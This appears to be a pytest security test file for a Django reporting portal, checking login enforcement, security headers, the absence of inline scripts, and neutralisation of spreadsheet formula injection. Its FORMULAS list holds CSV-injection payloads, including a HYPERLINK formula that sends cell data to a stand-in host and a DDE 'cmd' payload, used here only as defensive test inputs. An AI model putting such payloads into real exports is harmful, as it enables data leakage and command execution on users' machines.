"""Guards over every URL: nothing but the log-in pages answers an anonymous visitor."""

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

# Views that must work without a log-in, by URL name (admin's own log-in is Django's).
PUBLIC = {"accounts:login", "set_language", "healthz", "admin:login", "admin:index", "admin:view_on_site"}


def _patterns(resolver, namespace=""):
    """(namespaced URL name, view) of every URL, at any depth of include()."""
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}:{entry.namespace}" if namespace and entry.namespace else entry.namespace or namespace
            yield from _patterns(entry, inner)
        elif isinstance(entry, URLPattern):
            yield (f"{namespace}:{entry.name}" if namespace else entry.name), entry.callback


def test_only_known_views_are_exempt_from_login():
    exempt = {
        name
        for name, callback in _patterns(get_resolver())
        if getattr(callback, "login_required", True) is False and not (name or "").startswith("admin:")
    }
    assert exempt <= PUBLIC, f"views open to anonymous visitors: {sorted(exempt - PUBLIC)}"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path",
    ["/campaigns/", "/clusters/", "/reports/", "/reports/matrix/", "/accounts/organizations/", "/admin/accounts/user/"],
)
def test_anonymous_visitor_is_sent_to_login(client, path):
    response = client.get(path)
    assert response.status_code == 302
    assert "login" in response.url


# ---- headers on every page a persona sees ---------------------------------------------------

PERSONA_PAGES = {
    "staff_client": ["/", "/campaigns/", "/clusters/", "/reports/matrix/", "/reports/reminders/", "/accounts/profile/"],
    "leadership_client": ["/", "/campaigns/", "/clusters/", "/reports/matrix/", "/accounts/organizations/"],
    "officer_a_client": ["/", "/campaigns/", "/clusters/", "/reports/", "/accounts/password/"],
    "officer_b_client": ["/", "/reports/"],
    "outsider_client": ["/", "/accounts/profile/"],
}


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("persona", "path"), [(persona, path) for persona, paths in PERSONA_PAGES.items() for path in paths]
)
def test_every_page_after_log_in_carries_the_security_headers(request, persona, path):
    response = request.getfixturevalue(persona).get(path)
    assert response.status_code == 200
    csp = response["Content-Security-Policy"]
    assert "default-src 'self'" in csp
    assert "script-src 'self'" in csp
    assert "style-src 'self'" in csp
    assert "frame-ancestors 'none'" in csp
    assert "unsafe-inline" not in csp
    assert "unsafe-eval" not in csp
    assert "camera=()" in response["Permissions-Policy"]
    assert response["Cache-Control"] == "no-store"


@pytest.mark.django_db
def test_the_login_page_carries_the_policy_too(client):
    response = client.get("/accounts/login/")
    assert "default-src 'self'" in response["Content-Security-Policy"]
    assert "Permissions-Policy" in response


def _matrix_xlsx(client, capture, params=None):
    """The matrix XLSX: asked for, built in the background (eager here), then downloaded."""
    from summaries.models import SummaryFile

    with capture(execute=True):
        asked = client.get("/reports/matrix/export.xlsx", params or {})
    assert asked.status_code == 302
    summary = SummaryFile.objects.get(kind="matrix")
    assert summary.status == "ready"
    return client.get(reverse("summaries:summary_download", args=[summary.pk]))


@pytest.mark.django_db
def test_csv_export_is_not_stored_by_browsers_or_proxies(staff_client):
    response = staff_client.get("/reports/matrix/export.csv")
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"


@pytest.mark.django_db
def test_xlsx_export_is_not_stored_by_browsers_or_proxies(staff_client, django_capture_on_commit_callbacks):
    response = _matrix_xlsx(staff_client, django_capture_on_commit_callbacks)
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"


@pytest.mark.django_db
def test_attachments_are_not_stored_by_browsers_or_proxies(officer_a, officer_a_client, unit_a):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from reports import services
    from tests.files import PDF
    from tests.reports.factories import QuarterlyReportFactory

    report = QuarterlyReportFactory(organization=unit_a)
    attachment = services.add_attachment(report=report, by=officer_a, file=SimpleUploadedFile("a.pdf", PDF))
    response = officer_a_client.get(f"/reports/attachments/{attachment.pk}/")
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"


def test_no_template_has_inline_styles_or_scripts():
    """The policy allows no inline script or style: templates must not need one."""
    import re
    from pathlib import Path

    base = Path(__file__).resolve().parent.parent
    offenders = []
    for template in base.glob("**/templates/**/*.html"):
        if ".venv" in template.parts or "node_modules" in template.parts:
            continue
        relative = template.relative_to(base)
        # PDFs (WeasyPrint) and e-mails never meet the browser's policy.
        if "pdf" in relative.parts or "emails" in relative.parts:
            continue
        text = template.read_text()
        if re.search(r"\sstyle=|<style|<script(?![^>]*\ssrc=)(?![^>]*application/json)|\son[a-z]+=", text):
            offenders.append(str(relative))
    assert offenders == []


# ---- spreadsheets: user text is never a formula -----------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cells_that_look_like_formulas_get_an_apostrophe(text):
    from emulation_portal.spreadsheets import csv_safe

    assert csv_safe(text) == "'" + text
    assert csv_safe("Sở TTTT Gia Lai") == "Sở TTTT Gia Lai"
    assert csv_safe(-5) == -5


@pytest.mark.django_db
def test_matrix_exports_neutralise_formulas_in_unit_names(staff_client, django_capture_on_commit_callbacks):
    import csv
    import io

    from openpyxl import load_workbook

    from tests.factories import OrganizationFactory
    from tests.reports.factories import make_period

    make_period(2026, 2)
    for n, text in enumerate(FORMULAS[:4]):
        OrganizationFactory(code=f"formula-{n}", name=text, short_name=f"Đơn vị {n} (minh họa)")

    response = staff_client.get("/reports/matrix/export.csv", {"year": 2026})
    content = response.getvalue().decode("utf-8-sig")
    names = {row[0] for row in csv.reader(io.StringIO(content))}
    for text in FORMULAS[:4]:
        assert "'" + text in names
        assert text not in names

    response = _matrix_xlsx(staff_client, django_capture_on_commit_callbacks, {"year": 2026})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = {cell.value: cell for cell in sheet["A"]}
    for text in FORMULAS[:4]:
        assert cells[text].data_type == "s", text
